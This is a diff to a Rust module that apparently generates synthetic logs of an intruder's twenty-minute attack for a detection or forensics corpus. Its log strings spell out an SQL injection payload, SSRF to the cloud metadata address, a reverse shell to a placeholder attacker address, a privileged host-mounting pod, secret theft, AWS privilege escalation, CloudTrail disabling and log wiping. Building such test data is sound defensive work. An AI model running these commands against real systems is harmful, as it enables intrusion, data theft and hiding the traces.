@@ -1,4 +1,4 @@
-//! The story: one intruder's twenty minutes, told by all five sources.
+//! The story: one intruder's twenty minutes, as all five sources log them.
 //!
 //! ```text
 //!  0'  application  probes the shop: injection attempts, failed logins, a fetch of the metadata address (source.ip)
@@ -18,11 +18,9 @@ use casebook_event::Timestamp;
 use crate::audit::Object;
 use crate::cluster::{self, ACCOUNT, Cluster, NODE_ROLE};
 use crate::corpus::CorpusRecord;
+use crate::intruder::{ACCOUNT_NAME, ASSUMED_KEY, ATTACKER_IP, ApiRequest, AwsCall, Intruder, ShopRequest};
 use crate::random::Random;
-use crate::teller::{ACCOUNT_NAME, ASSUMED_KEY, ApiRequest, AwsCall, ShopRequest, Teller};
 
-/// Where the intruder comes from: an address of a documentation range (RFC 5737).
-pub const ATTACKER_IP: &str = "203.0.113.66";
 /// How long the story is.
 pub const STORY_MINUTES: u32 = 20;
 
@@ -37,28 +35,29 @@ const METADATA: &str = "http://169.254.169.254/latest/meta-data/iam/security-cre
 /// The records of the attack on the cluster of a seed, in order of time.
 pub fn story(seed: u64, start: Timestamp) -> Vec<CorpusRecord> {
     let cluster = Cluster::new(seed);
-    let mut teller = Teller {
+    let mut intruder = Intruder {
         pod: &cluster.pods[0],
         cluster: &cluster,
         random: Random::new(seed, "story"),
         start,
         records: Vec::with_capacity(128),
     };
-    probe_the_shop(&mut teller);
-    guess_a_password(&mut teller);
-    become_root(&mut teller);
-    enter_a_pod(&mut teller);
-    steal_from_the_pod(&mut teller);
-    take_the_cluster(&mut teller);
-    reach_the_node(&mut teller);
-    take_the_account(&mut teller);
-    export_and_wipe(&mut teller);
-    let mut records = teller.records;
+    probe_the_shop(&mut intruder);
+    guess_a_password(&mut intruder);
+    become_root(&mut intruder);
+    enter_a_pod(&mut intruder);
+    steal_from_the_pod(&mut intruder);
+    take_the_cluster(&mut intruder);
+    reach_the_node(&mut intruder);
+    take_the_account(&mut intruder);
+    use_the_role(&mut intruder);
+    export_and_wipe(&mut intruder);
+    let mut records = intruder.records;
     records.sort_by_key(|record| record.time);
     records
 }
 
-fn probe_the_shop(teller: &mut Teller<'_>) {
+fn probe_the_shop(intruder: &mut Intruder<'_>) {
     let search = ShopRequest {
         method: "GET",
         path: "/api/v2/products?q=%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20users--",
@@ -70,7 +69,7 @@ fn probe_the_shop(teller: &mut Teller<'_>) {
         r#""error.message":"ERROR: syntax error at or near \"UNION\" at character 48""#
     );
     for n in 0..4 {
-        teller.shop(
+        intruder.shop(
             2 + n * 7,
             "error",
             "query failed: syntax error at or near \"UNION\"",
@@ -85,7 +84,7 @@ fn probe_the_shop(teller: &mut Teller<'_>) {
         user: "admin",
     };
     for n in 0..14 {
-        teller.shop(32 + n * 5, "warn", "login failed: wrong password", login, "");
+        intruder.shop(32 + n * 5, "warn", "login failed: wrong password", login, "");
     }
     let path = format!("/api/v2/preview?url={METADATA}/");
     let fetch = ShopRequest {
@@ -94,10 +93,10 @@ fn probe_the_shop(teller: &mut Teller<'_>) {
         status: 400,
         user: "",
     };
-    teller.shop(115, "warn", "preview of a link refused", fetch, "");
+    intruder.shop(115, "warn", "preview of a link refused", fetch, "");
 }
 
-fn guess_a_password(teller: &mut Teller<'_>) {
+fn guess_a_password(intruder: &mut Intruder<'_>) {
     let strangers = ["admin", "oracle", "ubuntu", "git", "jenkins"];
     for n in 0..24u32 {
         let (pid, port) = (u64::from(20_400 + n), 40_022 + n * 37);
@@ -107,13 +106,13 @@ fn guess_a_password(teller: &mut Teller<'_>) {
             _ => ACCOUNT_NAME.to_owned(),
         };
         let text = format!("Failed password for {who} from {ATTACKER_IP} port {port} ssh2");
-        teller.auth(62 + n * 5, "sshd", pid, &text);
+        intruder.auth(62 + n * 5, "sshd", pid, &text);
     }
     let accepted = format!("Accepted password for {ACCOUNT_NAME} from {ATTACKER_IP} port 41022 ssh2");
-    teller.auth(190, "sshd", 20_431, &accepted);
+    intruder.auth(190, "sshd", 20_431, &accepted);
     let opened = format!("pam_unix(sshd:session): session opened for user {ACCOUNT_NAME}(uid=1001) by (uid=0)");
-    teller.auth(191, "sshd", 20_431, &opened);
-    teller.auth(
+    intruder.auth(191, "sshd", 20_431, &opened);
+    intruder.auth(
         191,
         "systemd-logind",
         712,
@@ -121,18 +120,18 @@ fn guess_a_password(teller: &mut Teller<'_>) {
     );
 }
 
-fn become_root(teller: &mut Teller<'_>) {
-    teller.sudo(240, "/usr/bin/id");
-    teller.sudo(258, "/bin/bash");
+fn become_root(intruder: &mut Intruder<'_>) {
+    intruder.sudo(240, "/usr/bin/id");
+    intruder.sudo(258, "/bin/bash");
     let opened = format!("pam_unix(sudo:session): session opened for user root(uid=0) by {ACCOUNT_NAME}(uid=1001)");
-    teller.auth(258, "sudo", 0, &opened);
-    teller.sudo(296, "/usr/bin/cat /root/.kube/config");
+    intruder.auth(258, "sudo", 0, &opened);
+    intruder.sudo(296, "/usr/bin/cat /root/.kube/config");
 }
 
-fn enter_a_pod(teller: &mut Teller<'_>) {
-    let pod = teller.pod;
+fn enter_a_pod(intruder: &mut Intruder<'_>) {
+    let pod = intruder.pod;
     let rules = Object::all("authorization.k8s.io", "selfsubjectrulesreviews");
-    teller.kubectl(
+    intruder.kubectl(
         360,
         ApiRequest {
             verb: "create",
@@ -143,7 +142,7 @@ fn enter_a_pod(teller: &mut Teller<'_>) {
         },
     );
     let pods = PODS.at(&pod.namespace, "");
-    teller.kubectl(
+    intruder.kubectl(
         372,
         ApiRequest {
             verb: "list",
@@ -158,7 +157,7 @@ fn enter_a_pod(teller: &mut Teller<'_>) {
         "?command=%2Fbin%2Fsh&container={}&stdin=true&stdout=true&tty=true",
         pod.container
     );
-    teller.kubectl(
+    intruder.kubectl(
         410,
         ApiRequest {
             verb: "get",
@@ -170,21 +169,21 @@ fn enter_a_pod(teller: &mut Teller<'_>) {
     );
 }
 
-fn steal_from_the_pod(teller: &mut Teller<'_>) {
+fn steal_from_the_pod(intruder: &mut Intruder<'_>) {
     let child = "[supervisor] child started:";
     let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
-    teller.container(455, "stdout", &format!("{child} cat {token}"));
-    teller.container(480, "stdout", &format!("{child} curl -s {METADATA}/"));
-    teller.container(486, "stdout", &format!("{child} curl -s {METADATA}/{NODE_ROLE}"));
-    teller.container(
+    intruder.container(455, "stdout", &format!("{child} cat {token}"));
+    intruder.container(480, "stdout", &format!("{child} curl -s {METADATA}/"));
+    intruder.container(486, "stdout", &format!("{child} curl -s {METADATA}/{NODE_ROLE}"));
+    intruder.container(
         521,
         "stderr",
         &format!("{child} bash -c bash -i >& /dev/tcp/{ATTACKER_IP}/4444 0>&1"),
     );
 }
 
-fn take_the_cluster(teller: &mut Teller<'_>) {
-    let pod = teller.pod;
+fn take_the_cluster(intruder: &mut Intruder<'_>) {
+    let pod = intruder.pod;
     let list = ApiRequest {
         verb: "list",
         object: SECRETS,
@@ -201,7 +200,7 @@ fn take_the_cluster(teller: &mut Teller<'_>) {
             code: 403,
             ..list
         };
-        teller.token(seconds, &pod.ip, denied);
+        intruder.token(seconds, &pod.ip, denied);
     }
     let object = Object::all("rbac.authorization.k8s.io", "clusterrolebindings").at("", "payments-metrics-reader");
     let body = format!(
@@ -209,7 +208,7 @@ fn take_the_cluster(teller: &mut Teller<'_>) {
         pod.workload, pod.namespace
     );
     let query = "?fieldManager=kubectl-create&fieldValidation=Strict";
-    teller.kubectl(
+    intruder.kubectl(
         630,
         ApiRequest {
             verb: "create",
@@ -219,7 +218,7 @@ fn take_the_cluster(teller: &mut Teller<'_>) {
             body: &body,
         },
     );
-    teller.token(672, ATTACKER_IP, list);
+    intruder.token(672, ATTACKER_IP, list);
     let taken = [
         ("ledger", "ledger-database"),
         ("identity", "oidc-signing-key"),
@@ -227,7 +226,7 @@ fn take_the_cluster(teller: &mut Teller<'_>) {
     ];
     for ((namespace, name), seconds) in taken.into_iter().zip((690..).step_by(9)) {
         let object = SECRETS.at(namespace, name);
-        teller.token(
+        intruder.token(
             seconds,
             ATTACKER_IP,
             ApiRequest {
@@ -240,14 +239,14 @@ fn take_the_cluster(teller: &mut Teller<'_>) {
     }
 }
 
-fn reach_the_node(teller: &mut Teller<'_>) {
-    let node = &teller.cluster.nodes[teller.pod.node].name;
+fn reach_the_node(intruder: &mut Intruder<'_>) {
+    let node = &intruder.cluster.nodes[intruder.pod.node].name;
     let object = PODS.at("kube-system", "kube-proxy-diag");
     let body = format!(
         r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"kube-proxy-diag","namespace":"kube-system"}},"spec":{{"nodeName":"{node}","hostPID":true,"hostNetwork":true,"volumes":[{{"name":"root","hostPath":{{"path":"/","type":""}}}}],"containers":[{{"name":"diag","image":"docker.io/library/alpine:3.22","command":["sleep","86400"],"volumeMounts":[{{"name":"root","mountPath":"/host"}}],"securityContext":{{"privileged":true}}}}],"tolerations":[{{"operator":"Exists"}}]}}}}"#
     );
     let query = "?fieldManager=kubectl-create";
-    teller.token(
+    intruder.token(
         780,
         ATTACKER_IP,
         ApiRequest {
@@ -260,7 +259,7 @@ fn reach_the_node(teller: &mut Teller<'_>) {
     );
     let query = "?command=chroot&command=%2Fhost&command=bash&container=diag&stdin=true&stdout=true&tty=true";
     let exec = object.sub("exec");
-    teller.token(
+    intruder.token(
         815,
         ATTACKER_IP,
         ApiRequest {
@@ -279,25 +278,29 @@ fn reach_the_node(teller: &mut Teller<'_>) {
         code: 200,
         body: "",
     };
-    teller.token(866, ATTACKER_IP, wipe);
+    intruder.token(866, ATTACKER_IP, wipe);
 }
 
-fn take_the_account(teller: &mut Teller<'_>) {
-    let call = |service, name, read_only| AwsCall {
+/// A call without parameters.
+fn call(service: &'static str, name: &'static str, read_only: bool) -> AwsCall<'static> {
+    AwsCall {
         service,
         name,
         read_only,
         request: "null",
         response: "null",
-    };
-    teller.aws(905, None, call("sts.amazonaws.com", "GetCallerIdentity", true));
-    teller.aws(922, None, call("iam.amazonaws.com", "ListRoles", true));
+    }
+}
+
+fn take_the_account(intruder: &mut Intruder<'_>) {
+    intruder.aws(905, None, call("sts.amazonaws.com", "GetCallerIdentity", true));
+    intruder.aws(922, None, call("iam.amazonaws.com", "ListRoles", true));
     let request =
         &format!(r#"{{"roleArn":"arn:aws:iam::{ACCOUNT}:role/support-admin","roleSessionName":"maintenance"}}"#);
     let response = &format!(
         r#"{{"credentials":{{"accessKeyId":"{ASSUMED_KEY}","expiration":"Nov 24, 2026, 11:30:00 AM"}},"assumedRoleUser":{{"assumedRoleId":"AROA2OTHERS9ZEXAMPLE:maintenance","arn":"arn:aws:sts::{ACCOUNT}:assumed-role/support-admin/maintenance"}}}}"#
     );
-    teller.aws(
+    intruder.aws(
         944,
         None,
         AwsCall {
@@ -306,12 +309,15 @@ fn take_the_account(teller: &mut Teller<'_>) {
             ..call("sts.amazonaws.com", "AssumeRole", true)
         },
     );
+}
 
+/// With the assumed role: another key, a policy for it, no trail, and a snapshot for a stranger.
+fn use_the_role(intruder: &mut Intruder<'_>) {
     let role = Some(("support-admin", "maintenance"));
-    let key = cluster::access_key(&mut teller.random, "AKIA");
+    let key = cluster::access_key(&mut intruder.random, "AKIA");
     let request = r#"{"userName":"backup-svc"}"#;
     let response = &format!(r#"{{"accessKey":{{"userName":"backup-svc","accessKeyId":"{key}","status":"Active"}}}}"#);
-    teller.aws(
+    intruder.aws(
         975,
         role,
         AwsCall {
@@ -321,7 +327,7 @@ fn take_the_account(teller: &mut Teller<'_>) {
         },
     );
     let request = r#"{"userName":"backup-svc","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}"#;
-    teller.aws(
+    intruder.aws(
         990,
         role,
         AwsCall {
@@ -330,7 +336,7 @@ fn take_the_account(teller: &mut Teller<'_>) {
         },
     );
     let request = &format!(r#"{{"name":"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/organization"}}"#);
-    teller.aws(
+    intruder.aws(
         1020,
         role,
         AwsCall {
@@ -344,7 +350,7 @@ fn take_the_account(teller: &mut Teller<'_>) {
         r#""attributeType":"CREATE_VOLUME_PERMISSION"}"#
     );
     let response = r#"{"_return":true}"#;
-    teller.aws(
+    intruder.aws(
         1051,
         role,
         AwsCall {
@@ -355,23 +361,23 @@ fn take_the_account(teller: &mut Teller<'_>) {
     );
 }
 
-fn export_and_wipe(teller: &mut Teller<'_>) {
+fn export_and_wipe(intruder: &mut Intruder<'_>) {
     let login = ShopRequest {
         method: "POST",
         path: "/api/v2/session",
         status: 200,
         user: "admin",
     };
-    teller.shop(1085, "info", "login succeeded", login, "");
+    intruder.shop(1085, "info", "login succeeded", login, "");
     let export = ShopRequest {
         method: "GET",
         path: "/api/v2/admin/export?table=customers",
         ..login
     };
     let rows = r#","export":{"table":"customers","rows":48210,"format":"csv"}"#;
-    teller.shop(1106, "info", "export finished: customers", export, rows);
-    teller.sudo(1150, "/usr/bin/truncate -s 0 /var/log/auth.log");
-    teller.sudo(1162, "/usr/bin/systemctl stop auditd");
+    intruder.shop(1106, "info", "export finished: customers", export, rows);
+    intruder.sudo(1150, "/usr/bin/truncate -s 0 /var/log/auth.log");
+    intruder.sudo(1162, "/usr/bin/systemctl stop auditd");
     let left = format!("Disconnected from user {ACCOUNT_NAME} {ATTACKER_IP} port 41022");
-    teller.auth(1180, "sshd", 20_431, &left);
+    intruder.auth(1180, "sshd", 20_431, &left);
 }
